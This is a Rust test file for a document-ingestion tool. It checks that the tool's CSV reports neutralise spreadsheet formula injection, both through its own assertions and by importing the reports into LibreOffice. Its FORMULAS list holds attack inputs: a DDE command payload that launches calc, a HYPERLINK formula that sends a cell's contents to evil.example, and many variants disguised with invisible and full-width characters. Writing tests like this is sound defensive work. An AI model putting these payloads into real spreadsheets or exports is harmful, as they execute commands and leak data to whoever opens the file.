//! Reports as a spreadsheet sees them: nothing in them is a formula, and what they say is still said.

#![expect(clippy::unwrap_used, reason = "an unexpected answer is the failure that a test looks for")]
#![expect(clippy::print_stdout, reason = "a skipped test says so")]

use std::fs::File;
use std::path::{Path, PathBuf};
use std::process::Command;

use countersign_ingest::report::{ByteOrderMark, CsvTable};
use countersign_tests::{Answers, Office, fill, rows};

/// An account whose number begins with zeros and whose name has all that CSV separates cells with.
const ACCOUNTS: &str =
    "number,name,status,billing_email,owner_first_name,owner_last_name,owner_email,owner_phone,security_pin
0012,\"Müller; \"\"Söhne\"\", & Co\",active,billing@henley.example,Margaret,Henley,margaret@henley.example,+1 555 010 0142,719305
";

/// The reports that people open.
const TABLES: [&str; 5] = ["accepted", "rejected", "rejected_details", "held", "duplicates"];

/// How a careful person imports: commas, double quotes, UTF-8, and every cell in quotes is text.
const QUOTED_IS_TEXT: &str = "--infilter=CSV:44,34,76,1,,0,true,true";

/// Cells that a program would calculate, send or split, of each kind.
const FORMULAS: [&str; 34] = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "=1+1;=2+2",
    "+44 20 7946 0958",
    "-Smith",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    "\nx",
    "\r\n=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1,1)",
    " =1+1",
    "   @x",
    " \tx",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{feff} +1",
    "\u{200b}=1+1",
    "\u{200c}-1",
    "\u{200d}@x",
    "\u{2060}=1+1",
    "\u{200b}\u{feff} \u{ff1d}1",
    "\u{200b}\tx",
    "\u{feff}\nx",
];

/// Cells that are none of that, and stay as they are.
const HARMLESS: [&str; 12] = [
    "0012",
    "12345678901234567890123456789012345678901234567890123456789012e7",
    "1234567e12",
    "2026-03-04",
    "\"=1+1\"",
    "a\",=1+1,\"b",
    "'=1+1",
    "O'Brien",
    "Zoë; Żółć, \"Анна\"",
    "日本",
    "%0A=1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
];

/// Whether a program could take a cell for the start of a formula, whatever it skips in front.
fn starts_formula(cell: &str) -> bool {
    let skipped = |it: char| {
        let is_space = it.is_whitespace() && !"\t\r\n".contains(it);
        is_space || "\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}".contains(it)
    };
    let cell = cell.trim_start_matches(skipped);
    cell.starts_with(|it| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(it))
}

/// Writes a table of one column.
fn write_column(path: &Path, cells: &[String]) {
    let file = File::create(path).unwrap();
    let mut table = CsvTable::create(Box::new(file), &["value"], ByteOrderMark::Written).unwrap();
    for cell in cells {
        table.write(std::slice::from_ref(cell)).unwrap();
    }
    table.flush().unwrap();
}

/// Checks that each value is written as a cell that is no formula and still says what it said.
fn assert_neutralised(values: &[String]) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("values.csv");
    write_column(&path, values);
    let written = rows(&path);
    assert_eq!(written.len(), values.len());
    for (row, value) in written.iter().zip(values) {
        let cell = &row["value"];
        assert!(!starts_formula(cell), "{value:?} became {cell:?}");
        assert_eq!(cell.strip_prefix('\'').filter(|_| cell != value).unwrap_or(cell), value);
    }
}

#[test]
fn no_cell_starts_a_formula_and_each_still_says_what_it_said() {
    assert_neutralised(&FORMULAS.map(str::to_owned));
    assert_neutralised(&HARMLESS.map(str::to_owned));
    assert!(FORMULAS.into_iter().all(starts_formula), "each value is one that must be changed");
    assert!(!HARMLESS.into_iter().any(starts_formula), "none of the others is");
}

#[test]
fn no_value_of_the_hostile_list_starts_a_formula() {
    let list = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/hostile/mkvalues.py");
    let Some(python) = std::env::var_os("COUNTERSIGN_TEST_PYTHON").filter(|_| list.is_file()) else {
        println!("skipped: no list of hostile values, or no COUNTERSIGN_TEST_PYTHON to print it with");
        return;
    };
    let imported = Command::new(&python).args(["-c", "import pikepdf, cryptography"]).output();
    if !imported.is_ok_and(|it| it.status.success()) {
        println!("skipped: COUNTERSIGN_TEST_PYTHON has no pikepdf or no cryptography");
        return;
    }
    let printed = Command::new(&python).arg("-B").arg(&list).output().unwrap();
    assert!(printed.status.success(), "{}", String::from_utf8_lossy(&printed.stderr));
    let entries: Vec<serde_json::Value> = serde_json::from_slice(&printed.stdout).unwrap();
    let of_csv = entries.iter().filter(|it| it["kind"] == "csv");
    let values: Vec<String> = of_csv.map(|it| it["value"].as_str().unwrap().to_owned()).collect();
    assert!(values.len() >= 10, "{values:?}");
    assert_neutralised(&values);
}

/// A run with awkward names in forms and of files: the folder of its reports.
fn awkward_run() -> (Office, PathBuf) {
    let office = Office::open();
    office.at.write("more.csv", ACCOUNTS);
    office.run("account import more.csv").done();
    let adding = |first: &str, last: &str| {
        let answers = Answers::complete().with("add.1.first_name", first).with("add.1.last_name", last);
        answers.with("add.1.email", "added@henley.example")
    };
    let mail = [
        ("=1+1.pdf", adding("Zoë", "O'Brien")),
        ("-2+3.pdf", adding("Анна", "Иванова")),
        ("@x.pdf", adding("=cmd", "Ellison")),
        ("+4.pdf", adding("D\u{430}na", "Whitfield")),
        ("Ж; \"y\", z.pdf", adding("Robert \"Rob\", Jr; Esq", "Łoś").with("signer.security_pin", "801234")),
    ];
    for (at, (name, answers)) in mail.iter().enumerate() {
        office.run(&format!("blank --account 0012 -o outbox{at}")).done();
        let made = std::fs::read_dir(office.at.join(&format!("outbox{at}"))).unwrap().map(|it| it.unwrap().path());
        let blank = made.into_iter().find(|it| it.extension().is_some_and(|it| it == "pdf")).unwrap();
        let form = fill(&std::fs::read(blank).unwrap(), answers);
        if at == 0 {
            office.at.write("returned/a\ttab.pdf", &form);
        }
        office.at.write(&format!("returned/{name}"), form);
    }
    office.run("ingest returned").done();
    let reports = std::fs::read_dir(office.at.join("home/reports")).unwrap().next().unwrap().unwrap().path();
    (office, reports)
}

/// All cells of a CSV file, header row and all, without its byte order mark.
fn csv_cells(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.strip_prefix(b"\xef\xbb\xbf").unwrap());
    reader.records().map(|it| it.unwrap().iter().map(|it| it.replace("\r\n", "\n")).collect()).collect()
}

/// Has LibreOffice import CSV files; answers the flat XML of each, or `None` where it is not installed.
fn import(files: &[PathBuf], options: &[&str]) -> Option<Vec<String>> {
    let folder = tempfile::tempdir().unwrap();
    let profile = format!("-env:UserInstallation=file://{}", folder.path().join("profile").display());
    let mut command = Command::new("soffice");
    command.args(["--headless", &profile, "--convert-to", "fods", "--outdir"]).arg(folder.path());
    let Ok(output) = command.args(options).args(files).output() else {
        println!("skipped: soffice is not installed");
        return None;
    };
    let read = |file: &PathBuf| {
        let made = folder.path().join(file.file_name().unwrap()).with_extension("fods");
        std::fs::read_to_string(made).unwrap_or_else(|error| panic!("{}: {error}: {output:?}", file.display()))
    };
    Some(files.iter().map(read).collect())
}

/// The cells of a flat XML sheet that have something in them, by row, as they are shown.
fn sheet_cells(sheet: &str) -> Vec<Vec<String>> {
    let mut table = Vec::new();
    for row in sheet.split("<table:table-row").skip(1) {
        let mut cells = Vec::new();
        for cell in row.split("</table:table-row>").next().unwrap().split("<table:table-cell").skip(1) {
            let head = cell.split('>').next().unwrap();
            let lines = cell.split("<text:p>").skip(1).map(|it| shown(it.split("</text:p>").next().unwrap()));
            let text = lines.collect::<Vec<_>>().join("\n");
            let repeated = attribute(head, "table:number-columns-repeated").map_or(1, |it| it.parse().unwrap());
            cells.extend(std::iter::repeat_n(text, repeated));
        }
        table.push(cells);
    }
    table
}

fn attribute<'a>(head: &'a str, name: &str) -> Option<&'a str> {
    head.split_once(&format!("{name}=\""))?.1.split('"').next()
}

/// A paragraph as it is shown: blanks and tabs are elements, some letters are entities.
fn shown(paragraph: &str) -> String {
    let mut text = String::new();
    for (at, piece) in paragraph.split('<').enumerate() {
        let Some((tag, rest)) = piece.split_once('>').filter(|_| at > 0) else {
            text.push_str(piece);
            continue;
        };
        if tag.starts_with("text:tab") {
            text.push('\t');
        } else if tag.starts_with("text:s/") || tag.starts_with("text:s ") {
            text.push_str(&" ".repeat(attribute(tag, "text:c").map_or(1, |it| it.parse().unwrap())));
        }
        text.push_str(rest);
    }
    let entities = [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&apos;", "'"), ("&amp;", "&")];
    entities.into_iter().fold(text, |text, (entity, letter)| text.replace(entity, letter))
}

#[test]
fn libreoffice_finds_no_formula_in_a_report_and_keeps_every_cell_as_text() {
    let (_office, reports) = awkward_run();
    let mut files: Vec<PathBuf> = TABLES.iter().map(|it| reports.join(format!("{it}.csv"))).collect();
    let values = reports.join("values.csv");
    let awkward = FORMULAS.into_iter().filter(|it| !it.contains(['\r', '\n'])).chain(HARMLESS);
    write_column(&values, &awkward.map(str::to_owned).collect::<Vec<_>>());
    files.push(values);

    let everything: String = files.iter().map(|it| std::fs::read_to_string(it).unwrap()).collect();
    for told in ["\"'=1+1.pdf\"", "\"'-2+3.pdf\"", "\"'@x.pdf\"", "\"'+4.pdf\"", "Иванова", "O'Brien", "\"0012\""]
    {
        assert!(everything.contains(told), "{told} is in none of the reports: {everything}");
    }
    let Some(sheets) = import(&files, &[QUOTED_IS_TEXT]) else { return };
    for (file, sheet) in files.iter().zip(&sheets) {
        let expected = csv_cells(file);
        assert!(expected.len() > 1, "{} has no row", file.display());
        assert!(!sheet.contains("table:formula"), "{}", file.display());
        assert!(!sheet.contains("office:value-type=\"float\""), "{}", file.display());
        let mut cells = sheet_cells(sheet);
        cells.resize(expected.len(), Vec::new());
        for (mut got, expected) in cells.into_iter().zip(expected) {
            got.resize(expected.len(), String::new());
            assert_eq!(got, expected, "{}", file.display());
        }
    }
}

#[test]
fn libreoffice_finds_no_formula_in_a_report_that_is_opened_as_it_comes() {
    let (_office, reports) = awkward_run();
    let mut files: Vec<PathBuf> = TABLES.iter().map(|it| reports.join(format!("{it}.csv"))).collect();
    let values = reports.join("values.csv");
    write_column(&values, &FORMULAS.into_iter().chain(HARMLESS).map(str::to_owned).collect::<Vec<_>>());
    files.push(values);
    let Some(sheets) = import(&files, &[]) else { return };
    for (file, sheet) in files.iter().zip(&sheets) {
        assert!(sheet_cells(sheet).len() > 1, "{} has no row", file.display());
        assert!(!sheet.contains("table:formula"), "{}", file.display());
    }
}
